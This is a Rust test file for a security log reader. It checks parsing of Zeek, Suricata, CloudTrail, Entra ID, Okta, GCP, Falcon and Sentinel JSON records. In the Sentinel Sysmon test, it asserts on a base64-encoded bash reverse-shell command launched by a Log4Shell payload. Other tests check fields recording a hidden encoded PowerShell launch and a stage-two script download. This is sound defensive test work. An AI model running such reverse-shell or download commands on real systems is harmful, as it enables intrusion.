//! JSON from the SIEM sources a SOC holds: each shape told apart per record, with the
//! vendor's names, time and host. Counts are taken from the files independently (lines, or
//! the `Records` array parsed with serde_json), never from the reader.

use std::path::Path;

use vigil_event::{Event, Value};
use vigil_test_support::{corpus_path, examples, snapshot_settings};

use crate::{Read, read_paths};

/// Non-blank lines: one record each in JSON Lines.
fn lines(path: &Path) -> u64 {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .count() as u64
}

/// Reads one file, checking it was sniffed as JSON, that every record became an event, and
/// that every event has `variant`.
fn read_clean(path: &Path, records: u64, variant: &str) -> Read {
    let read = read_paths(&[path], Default::default());
    let summary = &read.summaries[0];
    assert_eq!(
        (
            summary.format,
            summary.records,
            summary.events,
            summary.errors
        ),
        (Some("json"), records, records, 0),
        "{}: {:?}",
        path.display(),
        read.errors
    );
    for event in &read.events {
        assert_eq!(event.variant, Some(variant), "{}", event.origin);
        assert!(event.timestamp.is_some(), "{}: no time", event.origin);
    }
    read
}

fn str_of<'e>(event: &'e Event, name: &str) -> &'e str {
    event
        .get_str(name)
        .unwrap_or_else(|| panic!("{name} missing in {}", event.origin))
}

fn time(event: &Event) -> String {
    event.timestamp.unwrap().to_string()
}

fn snapshot(name: &str, event: &Event) {
    snapshot_settings().bind(|| insta::assert_json_snapshot!(name, event));
}

#[test]
fn zeek_simplerock_json_gets_zeek_names() {
    for file in [
        "conn",
        "dce_rpc",
        "dns",
        "http",
        "kerberos",
        "notice",
        "smb_files",
    ] {
        let Some(path) = corpus_path(&format!("logs/zeek-json/apt29_day1_SCRANTON_{file}.json"))
        else {
            return;
        };
        let read = read_clean(&path, lines(&path), "zeek");
        for event in &read.events {
            assert_eq!(str_of(event, "_path"), file);
            assert!(event.get("@stream").is_none() && event.get("id_orig_h").is_none());
            assert_eq!(
                event.host.as_deref(),
                Some("simplerockbuild.simplerock.lan")
            );
        }
        if file == "conn" {
            let first = &read.events[0];
            assert_eq!(str_of(first, "id.orig_h"), "10.0.1.4");
            assert_eq!(first.get("id.orig_p"), Some(&Value::Int(64842)));
            assert_eq!(str_of(first, "id.resp_h"), "10.0.0.4");
            assert_eq!(first.get("id.resp_p"), Some(&Value::Int(53)));
            assert_eq!(str_of(first, "uid"), "Cw1Hz43UWS4qXFei8f");
            assert_eq!(time(first), "2020-04-30T00:06:38.89971Z");
            snapshot("json_zeek_simplerock_conn", first);
        }
        if file == "smb_files" {
            let first = &read.events[0];
            assert_eq!(
                first.get("times.modified"),
                Some(&Value::Float(1588187906.664602))
            );
        }
    }
}

#[test]
fn zeek_streaming_json_keeps_its_names() {
    for (file, path_name) in [("dns", "dns"), ("notice", "notice"), ("ssh", "ssh")] {
        let Some(path) = corpus_path(&format!("logs/zeek-json/wrccdc2018_{file}.ndjson")) else {
            return;
        };
        let read = read_clean(&path, lines(&path), "zeek");
        assert!(
            read.events
                .iter()
                .all(|e| e.get_str("_path") == Some(path_name))
        );
        let first = &read.events[0];
        match file {
            "dns" => {
                assert_eq!(str_of(first, "id.orig_h"), "10.47.1.100");
                assert_eq!(str_of(first, "query"), "ise.wrccdc.org");
                assert_eq!(time(first), "2018-03-24T17:15:20.865716Z");
            }
            "ssh" => {
                assert_eq!(first.get("auth_success"), Some(&Value::Bool(true)));
                assert_eq!(first.get("id.resp_p"), Some(&Value::Int(22)));
                assert_eq!(time(first), "2018-03-24T17:16:39.739898Z");
                snapshot("json_zeek_ssh", first);
            }
            _ => {}
        }
    }
}

#[test]
fn suricata_alerts_from_the_corpus() {
    let Some(path) = corpus_path("logs/suricata-eve/wrccdc-2018_alerts-only.eve.ndjson") else {
        return;
    };
    let read = read_clean(&path, lines(&path), "suricata");
    assert!(
        read.events
            .iter()
            .all(|e| e.get_str("event_type") == Some("alert")
                && e.get("alert.signature_id").is_some())
    );
    let first = &read.events[0];
    assert_eq!(
        str_of(first, "alert.signature"),
        "ET SCAN Potential SSH Scan"
    );
    assert_eq!(first.get("alert.signature_id"), Some(&Value::Int(2001219)));
    assert_eq!(
        str_of(first, "alert.category"),
        "Attempted Information Leak"
    );
    assert_eq!(first.get("alert.severity"), Some(&Value::Int(2)));
    assert_eq!(str_of(first, "src_ip"), "0.0.0.0");
    assert_eq!(str_of(first, "dest_ip"), "10.47.8.150");
    assert_eq!(first.get("dest_port"), Some(&Value::Int(22)));
    // `-0600` without a colon.
    assert_eq!(time(first), "2018-03-24T20:37:19.037299Z");
    snapshot("json_suricata_alert", first);

    let Some(path) = corpus_path("logs/suricata-eve/honeypot-2018_alerts-only.eve.ndjson") else {
        return;
    };
    let read = read_clean(&path, lines(&path), "suricata");
    // No offset: read in the default zone, UTC.
    assert_eq!(time(&read.events[0]), "2019-01-02T03:50:11.31511Z");
    assert_eq!(str_of(&read.events[0], "proto"), "TCP");
}

#[test]
fn suricata_protocol_records_from_the_examples() {
    let path = examples().join("samples/suricata/eve.json");
    let read = read_clean(&path, lines(&path), "suricata");
    let types: Vec<_> = read
        .events
        .iter()
        .map(|e| str_of(e, "event_type"))
        .collect();
    assert_eq!(
        types,
        [
            "dns", "dns", "http", "fileinfo", "alert", "tls", "anomaly", "flow", "flow"
        ]
    );
    assert!(
        read.events
            .iter()
            .all(|e| e.host.as_deref() == Some("sensor-dmz-01"))
    );
    let answer = &read.events[1];
    assert_eq!(str_of(answer, "dns.rrname"), "update-check.example.net");
    assert_eq!(
        answer.get("dns.answers.rdata"),
        Some(&Value::List(vec![
            Value::from("cdn7.example.net"),
            Value::from("203.0.113.77")
        ]))
    );
    // `+0000` without a colon.
    assert_eq!(time(answer), "2024-03-12T10:11:58.118032Z");
    let http = &read.events[2];
    assert_eq!(str_of(http, "http.hostname"), "update-check.example.net");
    assert_eq!(str_of(http, "http.url"), "/a/stage2.ps1");
    assert_eq!(http.get("http.status"), Some(&Value::Int(200)));
    let tls = &read.events[5];
    assert_eq!(str_of(tls, "tls.sni"), "cdn-sync.example.org");
    assert_eq!(
        str_of(tls, "tls.ja3.hash"),
        "72a589da586844d7f0818ce684948eea"
    );
    assert_eq!(str_of(&read.events[8], "flow.state"), "new");
    snapshot("json_suricata_dns_answer", answer);
}

#[test]
fn cloudtrail_through_logstash_is_cloudtrail_not_ecs() {
    let Some(path) =
        corpus_path("logs/aws-cloudtrail/ec2_proxy_s3_exfiltration_2020-09-14011940.json")
    else {
        return;
    };
    let read = read_clean(&path, lines(&path), "cloudtrail");
    let first = &read.events[0];
    assert_eq!(str_of(first, "eventName"), "DescribeInstanceTypes");
    assert_eq!(str_of(first, "eventSource"), "ec2.amazonaws.com");
    assert_eq!(str_of(first, "userIdentity.type"), "IAMUser");
    assert_eq!(str_of(first, "userIdentity.userName"), "pedro");
    assert_eq!(str_of(first, "sourceIPAddress"), "1.2.3.4");
    assert_eq!(
        first.get("requestParameters.DescribeInstanceTypesRequest.MaxResults"),
        Some(&Value::Int(100))
    );
    // Logstash replaced `eventTime` with `@timestamp`.
    assert_eq!(time(first), "2020-09-14T00:44:23Z");
    // The exfiltration: S3 objects read with the instance profile's keys.
    let get_object = read
        .events
        .iter()
        .filter(|e| e.get_str("eventName") == Some("GetObject"))
        .count();
    assert!(get_object > 0);
}

/// The records of a `{"Records":[...]}` file, counted by parsing it whole.
fn records_in(path: &Path) -> u64 {
    let file: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    file["Records"].as_array().unwrap().len() as u64
}

#[test]
fn cloudtrail_files_give_one_event_per_record_where_it_is() {
    let dir = examples().join("samples/cloudtrail");
    let pretty = dir.join("123456789012_CloudTrail_us-east-1_20240312T1015Z_sample.json");
    let read = read_clean(&pretty, records_in(&pretty), "cloudtrail");
    let names: Vec<_> = read.events.iter().map(|e| str_of(e, "eventName")).collect();
    assert_eq!(
        names,
        [
            "ConsoleLogin",
            "CreateAccessKey",
            "StopLogging",
            "GetObject"
        ]
    );
    // Each record is placed where it starts: its record number, line and offset.
    let text = std::fs::read_to_string(&pretty).unwrap();
    for (i, event) in read.events.iter().enumerate() {
        let location = &event.origin.location;
        assert_eq!(location.record, Some(i as u64 + 1));
        let offset = location.offset.unwrap() as usize;
        assert!(
            text[offset..].starts_with("{\n      \"eventVersion\""),
            "{i}"
        );
        let line = text[..offset].matches('\n').count() as u64 + 1;
        assert_eq!(location.line, Some(line));
    }
    let denied = &read.events[3];
    assert_eq!(str_of(denied, "errorCode"), "AccessDenied");
    assert_eq!(str_of(denied, "userIdentity.type"), "AssumedRole");
    assert_eq!(
        str_of(denied, "userIdentity.sessionContext.sessionIssuer.type"),
        "Role"
    );
    assert_eq!(
        str_of(denied, "requestParameters.bucketName"),
        "acme-payroll-exports"
    );
    assert_eq!(
        denied.get("resources.type"),
        Some(&Value::List(vec![
            Value::from("AWS::S3::Object"),
            Value::from("AWS::S3::Bucket")
        ]))
    );
    assert_eq!(time(denied), "2024-03-12T10:19:55Z");
    assert_eq!(
        str_of(&read.events[0], "responseElements.ConsoleLogin"),
        "Success"
    );
    assert_eq!(str_of(&read.events[0], "additionalEventData.MFAUsed"), "No");
    snapshot("json_cloudtrail_stop_logging", &read.events[2]);

    let oneline = dir.join("123456789012_CloudTrail_us-east-1_20240312T1000Z_oneline.json");
    let read = read_clean(&oneline, records_in(&oneline), "cloudtrail");
    let names: Vec<_> = read.events.iter().map(|e| str_of(e, "eventName")).collect();
    assert_eq!(names, ["AssumeRole", "ListBuckets"]);
    assert_eq!(read.events[0].origin.location.offset, Some(12));
    assert_eq!(read.events[1].origin.location.line, Some(1));
}

#[test]
fn entra_id_sign_ins_from_the_corpus() {
    let Some(path) = corpus_path("logs/azure-ad-signin/elastic_signinlogs-raw_subset.ndjson")
    else {
        return;
    };
    let read = read_clean(&path, lines(&path), "azure_signin");
    let [interactive, non_interactive] = &read.events[..] else {
        panic!("two sign-ins");
    };
    assert_eq!(str_of(interactive, "category"), "SignInLogs");
    assert_eq!(
        str_of(non_interactive, "category"),
        "NonInteractiveUserSignInLogs"
    );
    assert_eq!(
        str_of(interactive, "properties.userPrincipalName"),
        "test@elastic.co"
    );
    assert_eq!(str_of(interactive, "resultType"), "50140");
    assert_eq!(str_of(interactive, "callerIpAddress"), "81.2.69.144");
    assert_eq!(
        interactive.get("properties.status.errorCode"),
        Some(&Value::Int(50140))
    );
    assert_eq!(interactive.get("Status"), Some(&Value::from("Failure")));
    assert_eq!(
        non_interactive.get("Status"),
        Some(&Value::List(vec![
            Value::from("Failure"),
            Value::from("MFA required")
        ]))
    );
    assert_eq!(time(interactive), "2019-10-18T09:45:48.0729893Z");
    snapshot("json_azure_signin", interactive);
}

#[test]
fn entra_id_graph_sign_ins_from_the_examples() {
    let path = examples().join("samples/azure/graph-signins.json");
    let read = read_clean(&path, lines(&path), "azure_signin");
    let denied = &read.events[0];
    assert_eq!(str_of(denied, "userPrincipalName"), "j.doe@contoso.example");
    assert_eq!(
        str_of(denied, "authenticationRequirement"),
        "multiFactorAuthentication"
    );
    assert_eq!(
        denied.get("Status"),
        Some(&Value::List(vec![
            Value::from("Failure"),
            Value::from("MFA denied; user declined the authentication")
        ]))
    );
    assert_eq!(time(denied), "2024-03-12T10:12:44Z");
    assert_eq!(
        read.events[1].get("Status"),
        Some(&Value::List(vec![
            Value::from("Success"),
            Value::from("MFA completed in Azure AD")
        ]))
    );
}

#[test]
fn entra_id_audit_logs_from_the_examples() {
    let path = examples().join("samples/azure/auditlogs.json");
    let read = read_clean(&path, lines(&path), "azure_audit");
    let ops: Vec<_> = read
        .events
        .iter()
        .map(|e| str_of(e, "operationName"))
        .collect();
    assert_eq!(
        ops,
        [
            "Add member to role",
            "Update user",
            "Consent to application",
            "Add service principal credentials"
        ]
    );
    let role = &read.events[0];
    assert_eq!(str_of(role, "properties.category"), "RoleManagement");
    assert_eq!(
        str_of(role, "properties.initiatedBy.user.userPrincipalName"),
        "maria.ops@contoso.example"
    );
    assert!(
        role.get("properties.targetResources.modifiedProperties.newValue")
            .unwrap()
            .items()
            .contains(&Value::from("\"62e90394-69f5-4237-9190-012177145e10\""))
    );
    assert_eq!(time(role), "2024-03-12T10:21:07.4471924Z");
    let mfa = &read.events[1];
    assert!(
        mfa.get("properties.targetResources.modifiedProperties.displayName")
            .unwrap()
            .items()
            .contains(&Value::from("StrongAuthenticationRequirement"))
    );
    assert_eq!(str_of(&read.events[3], "properties.result"), "failure");
    snapshot("json_azure_audit_mfa_disabled", mfa);

    let path = examples().join("samples/azure/graph-directoryaudits.json");
    let read = read_clean(&path, lines(&path), "azure_audit");
    let reset = &read.events[0];
    assert_eq!(
        str_of(reset, "activityDisplayName"),
        "Reset password (self-service)"
    );
    assert_eq!(
        str_of(reset, "loggedByService"),
        "Self-service Password Management"
    );
    assert_eq!(str_of(reset, "initiatedBy.user.ipAddress"), "203.0.113.77");
    assert_eq!(time(reset), "2024-03-12T10:30:12.1180545Z");
}

#[test]
fn okta_system_log_from_the_corpus() {
    let Some(path) = corpus_path("logs/okta-system-log/elastic_okta-system-events_subset.ndjson")
    else {
        return;
    };
    let read = read_clean(&path, lines(&path), "okta");
    let types: Vec<_> = read.events.iter().map(|e| str_of(e, "eventType")).collect();
    assert_eq!(
        types,
        [
            "user.session.end",
            "user.session.start",
            "policy.evaluate_sign_on"
        ]
    );
    let logout = &read.events[0];
    assert_eq!(str_of(logout, "actor.alternateId"), "username@elastic.co");
    assert_eq!(str_of(logout, "outcome.result"), "SUCCESS");
    assert_eq!(str_of(logout, "client.ipAddress"), "175.16.199.1");
    assert_eq!(str_of(logout, "displayMessage"), "User logout from Okta");
    assert_eq!(
        str_of(logout, "uuid"),
        "faf7398a-4f77-11ea-97fb-5925e98228bd"
    );
    assert_eq!(time(logout), "2020-02-14T22:18:51.843Z");
    let policy = &read.events[2];
    assert_eq!(str_of(policy, "outcome.result"), "ALLOW");
    assert_eq!(
        policy.get("target.displayName"),
        Some(&Value::List(vec![
            Value::from("Default Policy"),
            Value::from("Default Rule")
        ]))
    );
    snapshot("json_okta_policy", policy);
}

#[test]
fn gcp_audit_logs_from_the_examples() {
    let path = examples().join("samples/gcp/cloudaudit.json");
    let read = read_clean(&path, lines(&path), "gcp_audit");
    let methods: Vec<_> = read
        .events
        .iter()
        .map(|e| str_of(e, "protoPayload.methodName"))
        .collect();
    assert_eq!(
        methods,
        [
            "google.iam.admin.v1.CreateServiceAccountKey",
            "SetIamPolicy",
            "v1.compute.firewalls.insert",
            "storage.objects.get",
            "io.k8s.core.v1.secrets.delete",
            "google.admin.AdminService.changeTwoStepVerificationEnforcement",
            "google.login.LoginService.loginFailure"
        ]
    );
    let grant = &read.events[1];
    assert_eq!(
        str_of(grant, "protoPayload.@type"),
        "type.googleapis.com/google.cloud.audit.AuditLog"
    );
    assert_eq!(
        str_of(grant, "protoPayload.authenticationInfo.principalEmail"),
        "maria.ops@acme.example"
    );
    assert_eq!(
        str_of(grant, "protoPayload.requestMetadata.callerIp"),
        "198.51.100.23"
    );
    assert_eq!(
        str_of(
            grant,
            "protoPayload.serviceData.policyDelta.bindingDeltas.role"
        ),
        "roles/owner"
    );
    assert_eq!(str_of(grant, "resource.type"), "project");
    assert_eq!(time(grant), "2024-03-12T10:41:15.004411Z");
    let denied = &read.events[3];
    assert_eq!(
        denied.get("protoPayload.authorizationInfo.granted"),
        Some(&Value::Bool(false))
    );
    assert_eq!(denied.get("protoPayload.status.code"), Some(&Value::Int(7)));
    assert_eq!(
        str_of(&read.events[5], "protoPayload.metadata.event.eventName"),
        "ENFORCE_STRONG_AUTHENTICATION"
    );
    snapshot("json_gcp_set_iam_policy", grant);
}

#[test]
fn falcon_fdr_and_streaming_events_from_the_examples() {
    let path = examples().join("samples/falcon/fdr.json");
    let read = read_clean(&path, lines(&path), "falcon");
    let names: Vec<_> = read
        .events
        .iter()
        .map(|e| str_of(e, "event_simpleName"))
        .collect();
    assert_eq!(
        names,
        [
            "UserLogon",
            "ProcessRollup2",
            "DnsRequest",
            "NetworkConnectIP4"
        ]
    );
    let process = &read.events[1];
    assert!(str_of(process, "ImageFileName").ends_with(r"\powershell.exe"));
    assert!(str_of(process, "CommandLine").starts_with("powershell.exe -nop -w hidden -enc "));
    assert_eq!(str_of(process, "ParentBaseFileName"), "WINWORD.EXE");
    assert_eq!(process.host.as_deref(), Some("FIN-WS07"));
    // `ContextTimeStamp` (when it ran), read exactly, before `timestamp` (when it arrived).
    assert_eq!(time(process), "2024-03-12T10:12:09.287Z");
    let dns = &read.events[2];
    assert_eq!(str_of(dns, "DomainName"), "update-check.example.net");
    assert_eq!(dns.host, None);
    assert_eq!(str_of(&read.events[0], "UserName"), "jdoe");
    snapshot("json_falcon_process_rollup2", process);

    let path = examples().join("samples/falcon/streaming-api.json");
    let read = read_clean(&path, lines(&path), "falcon");
    let detection = &read.events[0];
    assert_eq!(
        str_of(detection, "metadata.eventType"),
        "DetectionSummaryEvent"
    );
    assert_eq!(str_of(detection, "event.Tactic"), "Execution");
    assert_eq!(detection.get("event.Severity"), Some(&Value::Int(4)));
    assert_eq!(detection.host.as_deref(), Some("FIN-WS07"));
    assert_eq!(time(detection), "2024-03-12T10:12:11Z");
    let auth = &read.events[1];
    assert_eq!(str_of(auth, "event.OperationName"), "twoFactorAuthenticate");
    assert_eq!(time(auth), "2024-03-12T10:13:22.117Z");
    snapshot("json_falcon_detection_summary", detection);
}

#[test]
fn sentinel_syslog_sysmon_xml_gets_sysmon_names() {
    let Some(path) = corpus_path(
        "logs/azure-sentinel-syslog-json/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
    ) else {
        return;
    };
    let read = read_clean(&path, lines(&path), "sentinel_syslog");
    let count = |id: i64| {
        read.events
            .iter()
            .filter(|e| e.get("EventID") == Some(&Value::Int(id)))
            .count()
    };
    // Counted with grep for `EventID\u003e<n>\u003c` in the file.
    assert_eq!(
        [count(1), count(3), count(5), count(11), count(23)],
        [31, 6, 50, 4, 2]
    );
    assert!(read.events.iter().all(|e| {
        e.get_str("Channel") == Some("Linux-Sysmon/Operational")
            && e.host.as_deref() == Some("UBUNTU5")
            && e.get("SyslogMessage").is_some()
    }));
    // The reverse shell the Log4Shell payload started.
    let shell = read
        .events
        .iter()
        .find(|e| {
            e.get("EventID") == Some(&Value::Int(1)) && e.get_str("Image") == Some("/bin/bash")
        })
        .unwrap();
    assert!(
        str_of(shell, "CommandLine")
            .starts_with("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}")
    );
    assert_eq!(
        str_of(shell, "ParentImage"),
        "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java"
    );
    assert_eq!(str_of(shell, "User"), "tomcat");
    // Sysmon's `UtcTime`, not the agent's `TimeGenerated`.
    assert_eq!(time(shell), "2022-05-11T18:10:21.998Z");
    snapshot("json_sentinel_sysmon_process_creation", shell);
    let connect = read
        .events
        .iter()
        .find(|e| e.get("EventID") == Some(&Value::Int(3)))
        .unwrap();
    assert_eq!(str_of(connect, "DestinationIp"), "104.46.127.225");
    assert_eq!(str_of(connect, "DestinationPort"), "443");
    assert_eq!(str_of(connect, "Initiated"), "true");
}

#[test]
fn sentinel_syslog_auoms_records_get_their_pairs() {
    let Some(path) = corpus_path(
        "logs/azure-sentinel-syslog-json/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
    ) else {
        return;
    };
    let read = read_clean(&path, lines(&path), "sentinel_syslog");
    assert!(read.events.iter().all(|e| {
        e.get_str("EventType") == Some("AUOMS_EXECVE")
            && e.get_str("syscall") == Some("execve")
            && e.get("exe").is_some()
    }));
    let first = &read.events[0];
    assert_eq!(str_of(first, "comm"), "http-nio-8080-e");
    assert_eq!(
        str_of(first, "exe"),
        "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java"
    );
    assert_eq!(str_of(first, "name"), "/usr/local/sbin/bash");
    assert_eq!(str_of(first, "success"), "no");
    assert_eq!(time(first), "2022-05-11T18:10:21.997Z");
    let dpkg = &read.events[20];
    assert_eq!(str_of(dpkg, "cmdline"), "dpkg-query --search -- /bin/bash");
    assert_eq!(
        str_of(dpkg, "path_name"),
        r#"["/usr/bin/dpkg-query","/lib64/ld-linux-x86-64.so.2"]"#
    );
    snapshot("json_sentinel_auoms_execve", dpkg);
}
